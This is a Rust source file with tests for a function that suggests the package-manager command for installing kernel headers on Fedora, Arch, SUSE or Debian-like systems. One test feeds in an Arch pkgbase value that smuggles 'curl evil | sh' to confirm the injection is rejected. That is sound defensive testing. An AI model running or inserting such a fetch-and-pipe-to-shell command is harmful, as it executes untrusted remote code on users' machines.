//! The distribution's command that installs headers.

use crate::bounded_read;
use crate::release;
use crate::rootfs::Root;

/// The command that installs a kernel's headers, on the root's distribution (os-release(5)).
pub fn headers_hint(root: &Root, release: &str) -> String {
    let os = ["/etc/os-release", "/usr/lib/os-release"]
        .iter()
        .find_map(|path| bounded_read::config(&root.find(path)?).ok())
        .unwrap_or_default();
    let ids: String = os
        .lines()
        .filter_map(|line| line.strip_prefix("ID=").or_else(|| line.strip_prefix("ID_LIKE=")))
        .map(|value| format!("{} ", value.trim_matches('"')))
        .collect();
    let is = |id: &str| ids.split_whitespace().any(|word| word == id);
    if is("fedora") || is("rhel") || is("centos") {
        format!("dnf install kernel-devel-{release}")
    } else if is("arch") {
        let base = root
            .find(format!("/lib/modules/{release}/pkgbase"))
            .and_then(|path| bounded_read::config(&path).ok());
        format!(
            "pacman -S {}-headers",
            base.as_deref().map(str::trim).filter(|base| release::is_plain(base)).unwrap_or("linux")
        )
    } else if is("suse") || is("opensuse") {
        "zypper install kernel-devel kernel-default-devel".to_owned()
    } else {
        format!("apt install linux-headers-{release}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use fs_err as fs;

    /// The release of Arch's kernels comes from a file of the tree.
    #[test]
    fn a_hint_holds_one_command() {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir_all(dir.path().join("etc")).unwrap();
        fs::create_dir_all(dir.path().join("lib/modules/6.1")).unwrap();
        fs::write(dir.path().join("etc/os-release"), "ID=arch\n").unwrap();
        let check = |base: &str, expect: &str| {
            fs::write(dir.path().join("lib/modules/6.1/pkgbase"), base).unwrap();
            assert_eq!(headers_hint(&Root::new(dir.path()), "6.1"), expect);
        };
        check("linux-lts\n", "pacman -S linux-lts-headers");
        check("linux; curl evil | sh;\n", "pacman -S linux-headers");
    }

    #[test]
    fn the_hint_names_the_distributions_own_package() {
        let check = |os: &str, expect: &str| {
            let dir = tempfile::tempdir().unwrap();
            fs::create_dir_all(dir.path().join("etc")).unwrap();
            fs::write(dir.path().join("etc/os-release"), os).unwrap();
            assert_eq!(headers_hint(&Root::new(dir.path()), "6.1"), expect);
        };
        check("ID=ubuntu\nID_LIKE=debian\n", "apt install linux-headers-6.1");
        check("ID=\"rocky\"\nID_LIKE=\"rhel centos fedora\"\n", "dnf install kernel-devel-6.1");
        check("ID=arch\n", "pacman -S linux-headers");
    }
}
